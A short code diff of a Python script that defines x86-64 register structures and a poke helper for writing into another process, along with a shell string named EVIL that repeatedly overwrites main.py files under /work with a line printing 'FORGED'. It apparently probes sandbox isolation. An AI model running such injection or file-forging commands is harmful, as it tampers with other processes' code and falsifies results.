@@ -53,7 +53,7 @@ NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip
          "eflags rsp ss fs_base gs_base ds es fs gs").split()
 class Regs(ctypes.Structure):
     _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]
-EVIL = ("W=/work; while :; do for f in $W/*/main.py $W/*/work/main.py $W/main.py; do "
+EVIL = ("W=/work; while :; do for f in $W/*/main.py $W/*$W/main.py $W/main.py; do "
         "[ -f \"$f\" ] && printf 'print(\"FORGED\")\\n' > \"$f\"; done; done")
 mine = {os.getpid()}
 def poke(pid, addr, data):
